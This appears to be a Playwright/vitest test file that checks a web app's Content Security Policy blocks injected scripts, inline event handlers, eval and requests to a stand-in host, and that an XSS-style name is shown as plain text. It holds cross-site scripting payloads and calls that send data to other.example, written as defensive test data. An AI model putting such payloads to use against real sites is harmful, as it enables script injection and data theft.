import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { openStage, type Stage } from './harness.ts';
import { startDay, tab, tap } from './tapping.ts';

// What somebody would try who got markup into a page. The policy that ships in the page must stop each of them, and
// say by which directive (W3C Content Security Policy Level 3).
/** Does something in the page and gives the directives that forbade it, once the first one has. */
const forbidden = (page: Page, what: string): Promise<string[]> =>
  page.evaluate(
    (source) =>
      new Promise<string[]>((done) => {
        const heard: string[] = [];
        addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          heard.push(effectiveDirective);
          done(heard);
        });
        const attempts: Record<string, () => unknown> = {
          'an inline script': () => {
            const script = document.createElement('script');
            script.textContent = 'globalThis.broken = true';
            document.head.append(script);
          },
          'a handler in markup': () => {
            const holder = document.createElement('div');
            holder.innerHTML = '<img src="data:," onerror="globalThis.broken = true">';
            document.body.append(holder);
          },
          'a link that is a script': () => {
            const link = document.createElement('a');
            link.href = 'javascript:globalThis.broken = true';
            document.body.append(link);
            link.click();
          },
          'a style in an attribute': () => {
            const holder = document.createElement('div');
            holder.innerHTML = '<p style="position: fixed">x</p>';
            document.body.append(holder);
          },
          'a script of another host': () => {
            const script = document.createElement('script');
            script.src = 'https://other.example/a.js';
            document.head.append(script);
          },
          'a question to another host': () => fetch('https://other.example/a').catch(() => {}),
          'a word to another host as the page goes': () =>
            navigator.sendBeacon('https://other.example/a', 'names'),
          'a socket to another host': () => new WebSocket('wss://other.example/'),
          'a picture of another host': () => {
            new Image().src = 'https://other.example/names.png';
          },
          'a frame of another host': () => {
            const frame = document.createElement('iframe');
            frame.src = 'https://other.example/';
            document.body.append(frame);
          },
          'a form sent to another host': () => {
            const form = document.createElement('form');
            form.action = 'https://other.example/';
            form.method = 'post';
            document.body.append(form);
            form.submit();
          },
          'another base for all addresses': () => {
            const base = document.createElement('base');
            base.href = 'https://other.example/';
            document.head.append(base);
          },
          'a worker made of text': () => new Worker(URL.createObjectURL(new Blob(['0']))),
        };
        try {
          attempts[source]!();
        } catch {
          // Some throw besides; what counts is that the policy said no.
        }
      }),
    what,
  );

describe('the policy of the built page', () => {
  let stage: Stage;
  beforeAll(async () => {
    stage = await openStage();
  });
  afterAll(() => stage.close());

  test.each([
    ['an inline script', 'script-src-elem'],
    ['a handler in markup', 'script-src-attr'],
    ['a link that is a script', 'script-src-elem'],
    ['a style in an attribute', 'style-src-attr'],
    ['a script of another host', 'script-src-elem'],
    ['a question to another host', 'connect-src'],
    ['a word to another host as the page goes', 'connect-src'],
    ['a socket to another host', 'connect-src'],
    ['a picture of another host', 'img-src'],
    ['a frame of another host', 'frame-src'],
    ['a form sent to another host', 'form-action'],
    ['another base for all addresses', 'base-uri'],
    ['a worker made of text', 'worker-src'],
  ])('forbids %s', async (what, directive) => {
    const { page } = stage;
    expect((await forbidden(page, what))[0]).toBe(directive);
    expect(await page.evaluate(() => 'broken' in globalThis)).toBe(false);
    expect(new URL(page.url()).origin).toBe(stage.origin);
    stage.forgive(/Content Security Policy|violates|EvalError|WebSocket|other\.example/i);
  });

  test('forbids text to become code', async () => {
    const ran = await stage.page.evaluate(async () => {
      // Not in this task: what a debugger runs may do what the page may not.
      await new Promise((done) => setTimeout(done));
      const forms: Record<string, () => unknown> = {
        // biome-ignore lint/security/noGlobalEval: that it does not run is what is tested.
        eval: () => globalThis.eval('1'),
        Function: () => new Function('return 1')(),
        method: () => Array.from.constructor('return 1')(),
      };
      return Object.keys(forms).filter((name) => {
        try {
          forms[name]!();
          return true;
        } catch (error) {
          return !(error instanceof EvalError);
        }
      });
    });
    expect(ran).toEqual([]);
    stage.forgive(/Content Security Policy|unsafe-eval/i);
  });

  test('names that are markup are shown as they were typed, on every screen and in the report', async () => {
    const { page } = stage;
    const name = '<img src=x onerror="globalThis.broken=1"><script>globalThis.broken=2</script>';
    await page.goto(`${stage.origin}/#/`);
    await startDay(page, name);
    await tap(page, /^Roll$/);
    await tap(page, /^Cut$/);
    for (const screen of ['Now', 'Cast', 'Rig', 'Line', 'Wrap']) {
      await tab(page, screen);
      expect(await page.locator('img[src="x"], main script').count()).toBe(0);
    }
    await page.locator('.report-text').filter({ hasText: '<script>' }).first().waitFor();
    expect(await page.evaluate(() => 'broken' in globalThis)).toBe(false);
  });
});
